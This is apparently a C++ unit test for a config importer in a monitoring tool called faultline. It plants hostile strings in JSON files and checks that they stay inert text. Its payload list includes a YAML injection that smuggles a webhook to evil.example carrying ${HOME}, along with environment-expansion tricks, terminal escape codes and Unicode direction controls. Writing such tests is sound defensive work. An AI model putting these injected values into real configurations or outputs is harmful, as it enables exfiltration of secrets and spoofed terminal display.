// SPDX-License-Identifier: Apache-2.0
// Imports of files whose texts are meant to be taken for more.
#include <faultline/base/json_writer.hpp>
#include <faultline/shell/config/document.hpp>
#include <faultline/shell/config/problems.hpp>

#include <catch2/catch.hpp>

#include <algorithm>
#include <cstddef>
#include <sstream>
#include <string>
#include <unit/app/openzeppelin_world.hpp>
#include <vector>

using namespace faultline;
using namespace faultline::import_test;

namespace {

/// In a string of JSON.
std::string in_json(const std::string& text) {
    JsonWriter json;
    json.string(text);
    const std::string out = json.take();
    return out.substr(1, out.size() - 2);
}

/// Everything that a configuration, a URL or a terminal might take for more than text.
const std::vector<std::string> kHostile = {
    "x.com\"\n    from: \"a@b.c\"\n  - {name: injected, kind: webhook, url: "
    "\"https://evil.example/x\", "
    "headers: {L: \"${HOME}\"}}\n  - name: m2\n    kind: email\n    server: \"smtp://q.com",
    "${HOME}",
    "$${HOME}",
    "$$${HOME}${HOME}",
    "\\${HOME}\\\"",
    "\x1b[2J\x1b]0;owned\x07\r\x7f",
    "\u009b2J\u0085\u2028- {name: x}",
    "\u202eevil\u2066\u200f",
    "'\n'\n- a: b",
    "x: y # z",
    "{a: [b, c]}",
    "a\tb\n---\n...\n",
    "evil.example/?@",
    "u:p@evil.example",
};

/// A folder of theirs in which every text but those that say what something is holds `text`.
void put_hostile(const World& world, const std::string& text) {
    std::string hostile = in_json(text);
    const auto put = [&](const std::string& path, std::string json) {
        for (std::size_t at = json.find('@'); at != std::string::npos;
             at = json.find('@', at + hostile.size())) {
            json.replace(at, 1, hostile);
        }
        world.put(path, json);
    };
    put("networks/bad.json", R"({"network_type": "@", "slug": "@", "chain_id": "@", "@": "@"})");
    put("networks/eth.json", R"({
  "network_type": "EVM", "slug": "@", "name": "@", "chain_id": 1, "@": "@",
  "rpc_urls": [{"type_": "@", "url": {"type": "plain", "value": "https://rpc.test/"}, "weight": "@", "@": "@"},
               {"type_": "@", "url": {"type": "plain", "value": "@"}},
               {"type_": "@", "url": {"type": "environment", "value": "@"}},
               {"type_": "@", "url": {"type": "@", "value": "@"}}]})");
    put("monitors/m.json",
        R"~({"name": "@", "networks": ["@"], "@": "@", "addresses": [{"address": "@"}],
  "match_conditions": {"functions": [{"signature": "@"}], "@": "@",
    "events": [{"signature": "Upgraded(address)", "expression": "@"}, {"signature": "@"}]},
  "trigger_conditions": [{"script_path": "@"}], "triggers": ["@"]})~");
    const std::string secrets[] = {
        R"({"type": "plain", "value": "@"})",
        R"({"type": "environment", "value": "@"})",
        R"({"type": "environment", "value": "HERS"})",
        R"({"type": "hashicorpcloudvault", "value": "@"})",
        R"({"type": "@", "value": "@"})",
    };
    int file = 0;
    for (const std::string& secret : secrets) {
        std::string json = R"({
  "@": {"name": "@", "trigger_type": "slack", "@": "@", "config": {"slack_url": SECRET, "message": {"title": "@"}, "@": "@"}},
  "@ 2": {"name": "@", "trigger_type": "telegram", "config": {"token": SECRET, "chat_id": "@"}},
  "@ 3": {"name": "@", "trigger_type": "email", "config": {"host": "@", "port": 587, "username": SECRET,
    "password": SECRET, "sender": "@", "recipients": ["@", "@"]}},
  "@ 4": {"name": "@", "trigger_type": "email", "config": {"host": "mx.test", "port": "@", "username": SECRET,
    "password": SECRET, "sender": "@", "recipients": ["@", "@"]}},
  "@ 5": {"name": "@", "trigger_type": "webhook", "config": {"url": SECRET, "method": "POST", "secret": SECRET,
    "headers": {"@": "@", "X-@": "@"}}},
  "@ 6": {"name": "@", "trigger_type": "webhook", "config": {"url": {"type": "plain", "value": "https://x.test/"},
    "method": "POST", "secret": SECRET, "headers": {"@": "@", "X-@": "@"}}},
  "@ 7": {"name": "@", "trigger_type": "@", "config": {"@": "@"}}})";
        for (std::size_t at = json.find("SECRET"); at != std::string::npos;
             at = json.find("SECRET")) {
            json.replace(at, 6, secret);
        }
        put("triggers/" + std::to_string(file++) + ".json", json);
    }
}

std::size_t entries_of(const config::Node& document, const std::string& list) {
    const config::Node* found = document.find(list);
    return found == nullptr ? 0 : found->items.size();
}

std::string counted(std::size_t count, const std::string& what) {
    return std::to_string(count) + " " + what + (count == 1 ? "" : "s");
}

bool shows_only_text(const std::string& text) {
    for (const char* hidden : {"\u009b", "\u0085", "\u2028", "\u202e", "\u2066", "\u200f"}) {
        if (holds(text, hidden)) {
            return false;
        }
    }
    return std::ranges::none_of(text, [](char c) {
        return (c >= 0 && c < ' ' && c != '\n') || c == '\x7f';
    });
}

}  // namespace

TEST_CASE("What another program's files hold stays text", "[import]") {
    for (const std::string& text : kHostile) {
        const World world;
        put_hostile(world, text);
        const Said said = world.import();
        const std::string config = world.text("faultline.yaml");
        INFO(text << "\n" << said.out << said.err << config);
        std::istringstream complaints(said.err);
        for (std::string line; std::getline(complaints, line);) {
            INFO(line);
            CHECK((line.ends_with(" is not set") || line.ends_with("is not right yet")));
        }
        CHECK(shows_only_text(said.out + said.err));
        config::Problems problems;
        const auto document = config::parse_document("faultline.yaml", config, problems);
        REQUIRE(document.has_value());
        const std::string reported = counted(entries_of(*document, "chains"), "chain") + ", " +
                                     counted(entries_of(*document, "rules"), "rule") + ", " +
                                     counted(entries_of(*document, "receivers"), "receiver");
        CHECK(holds(said.out, "out: " + reported + "\n"));
        CHECK_FALSE(world.asked.contains("HOME"));
        for (const std::string& name : world.asked) {
            INFO(name);
            CHECK(holds(said.out, "needs the environment variable " + name + "\n"));
        }
    }
}
